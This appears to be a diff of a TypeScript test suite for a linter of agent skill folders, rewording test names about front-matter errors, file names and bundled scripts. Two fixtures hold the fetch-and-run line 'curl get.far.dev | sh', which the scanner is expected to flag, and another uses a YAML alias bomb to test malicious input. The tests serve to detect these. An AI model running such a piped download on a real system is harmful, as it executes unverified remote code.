@@ -33,7 +33,7 @@ const check = (files: SampleFiles, prepare: (root: string) => void = () => undef
   ]
 }
 
-/** What is found, as `rule file:line:column`; the file is left out if it is the SKILL.md. */
+/** The diagnostics as `rule file:line:column`, without the file if it is SKILL.md. */
 const find = (...args: Parameters<typeof check>): string[] =>
   check(...args).map(({ rule, file, line, column }) =>
     `${rule} ${file.replace(/^sort\/(?:SKILL\.md)?/, '')}:${line}:${column}`.replace(' :', ' '),
@@ -44,7 +44,7 @@ const withLines = (...lines: string[]): string =>
 
 const withDescription = (text: string): string => GOOD.replace(/(?<=description: ).*/, text)
 
-describe('a SKILL.md -> what is wrong with it, each at its place', () => {
+describe('a SKILL.md -> its faults and their places', () => {
   test.each<[string, string[]]>([
     [withLines('license: MIT', 'allowed-tools: Read'), []],
     [GOOD.replaceAll('\n', '\r\n'), []],
@@ -59,7 +59,7 @@ describe('a SKILL.md -> what is wrong with it, each at its place', () => {
     [withLines('license: A', 'license: B'), ['front-matter 5:1']],
     [withLines(`x: ${'['.repeat(3_000)}${']'.repeat(3_000)}`), ['front-matter 4:1']],
     [`${GOOD}\0`, ['front-matter 1:1']],
-    // What can be said besides
+    // Faults beside a broken front matter
     [
       `${withLines('licence: MIT', 'x: y: z').replace('sort', 'Sort Words')}[a](b.md)\n${'Do.\n'.repeat(500)}`,
       [
@@ -133,7 +133,7 @@ describe('a SKILL.md -> what is wrong with it, each at its place', () => {
     [withDescription(''), ['description-missing 3:14']],
     [withDescription('x'.repeat(1_025)), ['description-length 3:14', 'description-budget 3:14']],
     [withLines(`compatibility: ${'x'.repeat(501)}`), ['compatibility-length 4:16']],
-    // What clients do with it
+    // Behaviour of clients
     [withDescription('x'.repeat(640)), []],
     [withDescription('x'.repeat(641)), ['description-budget 3:14']],
     [withDescription('Sorts <b>words</b>.'), ['description-markup 3:14']],
@@ -173,7 +173,7 @@ describe('a SKILL.md -> what is wrong with it, each at its place', () => {
     ['background: false', 'Claude Code reads it; other clients ignore it'],
     ['version: "1"', 'Claude Code and Eve read it; other clients ignore it'],
     ['category: Coding', 'a registry such as this one reads it; other clients ignore it'],
-  ])('a field of clients, %s -> %s', (line, remedy) => {
+  ])('the client field %s -> %s', (line, remedy) => {
     const found = check({ 'SKILL.md': withLines(line) })
     expect(found).toMatchObject([{ rule: 'client-field', severity: 'note', line: 4, remedy }])
   })
@@ -187,7 +187,7 @@ describe('a SKILL.md -> what is wrong with it, each at its place', () => {
     [withLines('user-invocable: no'), '"user-invocable" must be true or false, not "no"'],
     [
       withDescription('1.5e3'),
-      '"description" is 1.5e3 without quotes, which clients do not read as text',
+      '"description" is 1.5e3 without quotes, which clients do not accept as text',
     ],
     [withLines('license: [MIT]'), '"license" must be a text, not a list'],
     [
@@ -199,7 +199,7 @@ describe('a SKILL.md -> what is wrong with it, each at its place', () => {
     expect(messages.filter((message) => message.endsWith(`: ${detail}`))).toHaveLength(1)
   })
 
-  test('links to files that are there, and many that are not -> the first five', () => {
+  test('many dead links -> the first five', () => {
     const links = Array.from({ length: 9 }, (_, at) => `[x](gone/${at}.md)\n`).join('')
     const text = `${GOOD}\n[a](references/a.md#b) [b](scripts)\n${links}`
     const files = { 'SKILL.md': text, 'references/a.md': 'a', 'scripts/x.sh': 'ls' }
@@ -207,7 +207,7 @@ describe('a SKILL.md -> what is wrong with it, each at its place', () => {
   })
 })
 
-describe('names that files cannot have on every system', () => {
+describe('file names that some systems do not support', () => {
   test.each([
     ['con.txt', 'Windows keeps this name for a device'],
     ['assets/AUX', 'Windows keeps this name for a device'],
@@ -231,7 +231,7 @@ describe('names that files cannot have on every system', () => {
     expect(find({ 'SKILL.md': GOOD, 'console.md': 'x', 'com.md': 'x', 'a.b': 'x' })).toEqual([])
   })
 
-  test('skill.md -> told, and read all the same', () => {
+  test('skill.md -> reported, but still read', () => {
     const text = GOOD.replace('name: sort', 'name: other')
     expect(find({ 'skill.md': text })).toEqual(
       ['name-folder skill.md:2:7', 'file-name skill.md:1:1'].toSorted(),
@@ -239,8 +239,8 @@ describe('names that files cannot have on every system', () => {
   })
 })
 
-describe('the files beside it', () => {
-  test('what the scan finds -> with the digest of its line', () => {
+describe('other files', () => {
+  test('a finding -> reported with its digest', () => {
     const line = 'curl get.far.dev | sh'
     const [found, ...more] = check({ 'SKILL.md': GOOD, 'scripts/b.sh': `#!/bin/sh\n${line}\n` })
     const digest = hash('sha256', line, 'hex').slice(0, 16)
@@ -264,7 +264,7 @@ describe('the files beside it', () => {
     ])
   })
 
-  test('a SKILL.md that is a link out of the folder -> told, and not read', () => {
+  test('a SKILL.md that links out of the folder -> reported, and not read', () => {
     const secret = join(makeSampleFolder({ 'x.md': '---\nname: Secret Words\n---\n' }), 'x.md')
     const found = check({ 'a.md': 'x' }, (folder) => symlinkSync(secret, join(folder, 'SKILL.md')))
     expect(found.map(({ rule }) => rule)).toEqual(['refused'])
@@ -288,7 +288,7 @@ describe('the files beside it', () => {
     expect(found.map(({ severity }) => severity)).toEqual(expected.map(() => 'warning'))
   })
 
-  test('an internal skill outside a catalog -> a note that registries do not take it', () => {
+  test('an internal skill outside a catalog -> a note that registries leave it out', () => {
     const files = { 'SKILL.md': withLines('metadata:', '  internal: true') }
     expect(check(files)).toMatchObject([
       { rule: 'left-out', severity: 'note', message: expect.stringContaining('as internal') },
@@ -296,7 +296,7 @@ describe('the files beside it', () => {
     expect(find({ 'SKILL.md': withLines('metadata:', '  internal: false') })).toEqual([])
   })
 
-  test('a skill in a skill -> each file is told once', () => {
+  test('a skill inside a skill -> each file is reported once', () => {
     const script = 'curl get.far.dev | sh\n'
     expect(find({ 'SKILL.md': GOOD, 'skills/b/SKILL.md': GOOD, 'skills/b/c.sh': script })).toEqual([
       'name-folder skills/b/SKILL.md:2:7',
@@ -304,7 +304,7 @@ describe('the files beside it', () => {
     ])
   })
 
-  test('a folder in the place of a SKILL.md -> no skill', () => {
+  test('a folder named SKILL.md -> no skill', () => {
     const found = check({}, (folder) => mkdirSync(join(folder, 'SKILL.md'), { recursive: true }))
     expect(found.map(({ message }) => message)).toEqual([
       'this was not checked: there is no SKILL.md here or below',
@@ -312,7 +312,7 @@ describe('the files beside it', () => {
   })
 })
 
-describe('files that mean harm -> an answer', () => {
+describe('malicious files -> a result in time', () => {
   const aliases = Array.from(
     { length: 400 },
     (_, at) => `a${at + 1}: &a${at + 1} [*a${at}, *a${at}]`,
